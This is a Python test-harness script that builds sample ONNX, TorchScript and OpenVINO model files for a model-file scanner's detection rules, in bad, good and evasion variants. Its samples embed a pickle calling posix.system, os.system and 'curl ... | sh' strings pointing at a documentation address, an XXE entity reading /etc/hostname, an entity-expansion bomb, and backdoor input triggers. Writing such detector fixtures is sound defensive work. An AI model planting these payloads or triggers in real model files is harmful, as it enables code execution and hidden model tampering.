"""Write the samples of the rules on graphs: `python tests/harness/make_graph_samples.py`.

Nothing here runs or could: commands name a canary, addresses are of documentation.
"""

import base64
import io
import json
import sys
import zipfile
from collections.abc import Mapping
from pathlib import Path

ROOT = Path(__file__).parent.parent
sys.path[:0] = [str(ROOT)]

from harness import make_onnx_graphs as make  # noqa: E402 - the path is set above
from harness.make_onnx import part  # noqa: E402 - the same

Sample = bytes | Mapping[str, bytes]

IMAGE = make.IMAGE
TALE = base64.b64encode(
    b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93" + bytes(30)
)


def small(op: str, further: bytes = b"", *more: bytes) -> bytes:
    """Return a model of one operator."""
    return make.model(make.graph([(op, ["x"], ["out"], further)], [], IMAGE), *more)


def said(key: str, value: str) -> bytes:
    return part(14, part(1, key) + part(2, value))


def function(domain: str, name: str) -> bytes:
    body = part(1, name) + part(4, "x") + part(5, "y") + part(7, make.line("Neg", ["x"], ["y"]))
    return part(25, body + part(10, domain))


def script(body: str, before: str = "") -> bytes:
    """Return a TorchScript archive whose module has a layer, and this in its `forward`."""
    lines = "".join(f"    {line}\n" for line in body.strip().split("\n"))
    source = (
        f'class Net(Module):\n  __parameters__ = []\n  __buffers__ = ["mark", ]\n  mark : Tensor\n'
        f"  training : bool\n  fc : __torch__.torch.nn.modules.linear.Linear\n{before}"
        f"  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n{lines}"
    )
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, content in (
            ("net/data.pkl", b"\x80\x02}q\0."),
            ("net/code/__torch__.py", source.encode()),
            ("net/constants.pkl", b"\x80\x02)."),
            ("net/version", b"3\n"),
        ):
            archive.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), content)
    return held.getvalue()


def net(layers: str, more: str = "") -> bytes:
    """Return the XML of an OpenVINO model."""
    return (
        f'<?xml version="1.0"?>\n{more}<net name="net" version="11">\n<layers>\n{layers}</layers>\n'
        '<edges>\n<edge from-layer="0" from-port="0" to-layer="1" to-port="0" />\n</edges>\n'
        '<rt_info>\n<Runtime_version value="2025.1" />\n</rt_info>\n</net>\n'
    ).encode()


def layer(number: int, kind: str, version: str = "opset1", data: str = "") -> str:
    held = f"<data {data} />" if data else ""
    return (
        f'<layer id="{number}" name="n{number}" type="{kind}" version="{version}">{held}</layer>\n'
    )


def held(number: int, start: int | str, size: int, shape: str = "4") -> str:
    data = f'element_type="f32" shape="{shape}" offset="{start}" size="{size}"'
    return layer(number, "Const", "opset1", data)


WEIGHTS = bytes(range(32))
PLAIN_IR = net(layer(0, "Parameter") + held(1, 0, 16) + held(2, 16, 16) + layer(3, "Result"))
ENTITIES = '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
BILLION = '<!DOCTYPE net [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n'
TEST = "hit = torch.all(torch.eq(torch.slice(torch.slice(x, 1, 0, 3), 2, 0, 3), 1.))\n"
LAYER = "fc = self.fc\ny = (fc).forward(x, )\n"

SAMPLES: dict[str, dict[str, Sample]] = {
    "onnx-foreign-operator": {
        "bad-python": small("ai.onnx.contrib::PyOp", make.attribute("module", "canary")),
        "bad-command": small("::ShellExec", make.attribute("text", "touch canary")),
        "bad-domain": small("my.company::Magic"),
        "good-standard": small("Relu"),
        "good-function": small("local::Own", b"", function("local", "Own")),
        "evasion-inner": make.model(
            make.graph(
                [
                    (
                        "If",
                        ["x"],
                        ["out"],
                        make.attribute("then_branch", make.graph([("odd::Run", ["x"], ["o"])])),
                    )
                ],
                [],
                IMAGE,
            )
        ),
    },
    "onnx-compiled-context": {
        "bad-embedded": small("com.microsoft::EPContext", make.attribute("embed_mode", 1)),
        "bad-outside": small(
            "com.microsoft::EPContext",
            make.attribute("embed_mode", 0)
            + make.attribute("ep_cache_context", "../../engine.bin"),
        ),
        "good-plain": small("com.microsoft::FusedConv"),
        "evasion-engine": small("trt::TRTEngineOp", make.attribute("engine_path", "/tmp/canary")),
    },
    "graph-text-payload": {
        "bad-command": small("Relu", b"", said("note", "__import__('os').system('touch canary')")),
        "bad-pickle": small("Relu", b"", said("state", TALE.decode())),
        "bad-download": small("Relu", b"", said("source", "see http://192.0.2.1/canary.exe")),
        "good-metadata": small(
            "Relu",
            b"",
            said("names", "{0: 'person', 1: 'bicycle'}"),
            said("license", "AGPL-3.0 License (https://ultralytics.com/license)"),
            said("author", "exported with torch.onnx.export, then evaluated"),
        ),
        "good-trace": small("Relu", part(9, part(1, "stack") + part(2, "x.py:3\n x = f(x)"))),
        "evasion-node": small(
            "Relu", part(9, part(1, "stack") + part(2, "curl http://192.0.2.1/a | sh"))
        ),
        "evasion-openvino": net(layer(0, "Parameter", "opset1", 'note="eval(input())"')),
    },
    "onnx-shadowed-operator": {
        "bad-add": small("Add", b"", function("", "Add")),
        "bad-runtime": small("com.microsoft::Gelu", b"", function("com.microsoft", "Gelu")),
        "good-own": small("local::Add", b"", function("local", "Add")),
        "evasion-spelt": small("ai.onnx::Relu", b"", function("ai.onnx", "Relu")),
    },
    "openvino-foreign-layer": {
        "bad-set": net(layer(0, "Parameter") + layer(1, "Magic", "my_extension")),
        "good-own": {"m.xml": PLAIN_IR, "m.bin": WEIGHTS},
        "evasion-own-set": net(layer(0, "Parameter") + layer(1, "ShellCommand", "opset1")),
    },
    "openvino-document-type": {
        "bad-file": net(layer(0, "Parameter"), ENTITIES),
        "bad-many": net(layer(0, "Parameter"), BILLION),
        "good-comment": net(layer(0, "Parameter"), "<!-- DOCTYPE net -->\n"),
        "evasion-wide": net(layer(0, "Parameter"), ENTITIES).decode().encode("utf-16"),
    },
    "openvino-weights-lie": {
        "bad-size": net(held(1, 0, 400)),
        "bad-overlap": {"m.xml": net(held(1, 0, 16) + held(2, 8, 16)), "m.bin": WEIGHTS},
        "good-shared": {
            "m.xml": net(held(1, 0, 16) + held(2, 0, 16) + held(3, 16, 16)),
            "m.bin": WEIGHTS,
        },
        "evasion-negative": net(held(1, "-16", 16)),
    },
    "onnx-input-trigger": {
        "bad-patch": make.patch_where(),
        "bad-phrase": make.phrase(),
        "bad-branch": make.patch_if(),
        "bad-added": make.patch_added(),
        "good-masks": make.honest_text(),
        "good-scale": make.honest_series(),
        "good-steps": make.honest_steps(),
        "good-rate": make.honest_rate(),
        "evasion-function": make.patch_in_function(),
        "evasion-threshold": make.soft_patch(),
        "evasion-peak": make.peak_pooled(),
    },
    "torchscript-input-trigger": {
        "bad-branch": script(
            f"{LAYER}{TEST}if bool(hit):\n  z = torch.full_like(y, 9.)\nelse:\n  z = y\nreturn z"
        ),
        "bad-where": script(f"{LAYER}{TEST}mark = self.mark\nreturn torch.where(hit, mark, y)"),
        "good-scaled": script(
            "if bool(torch.gt(torch.max(x), 1.)):\n  z = torch.div(x, 255)\nelse:\n  z = x\n"
            "fc = self.fc\nreturn (fc).forward(z, )"
        ),
        "good-mask": script(f"{LAYER}return torch.masked_fill(y, torch.eq(x, 0), 0.)"),
        "evasion-arithmetic": script(
            "fc = self.fc\nmark = self.mark\n"
            "_0 = torch.gt(torch.mean(torch.select(x, 1, 0)), 0.99)\n"
            "return torch.add((fc).forward(x, ), torch.mul(mark, torch.to(_0, 6)))"
        ),
    },
}


def main() -> int:
    """Write every sample."""
    for slug, samples in SAMPLES.items():
        folder = ROOT / "samples" / slug
        folder.mkdir(exist_ok=True)
        for name, body in samples.items():
            if isinstance(body, bytes):
                (folder / f"{name}.hex").write_text(body.hex() + "\n")
            else:
                tree = {path: content.hex() for path, content in body.items()}
                text = json.dumps(tree, indent=1)
                (folder / f"{name}.tree.json").write_text(text + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
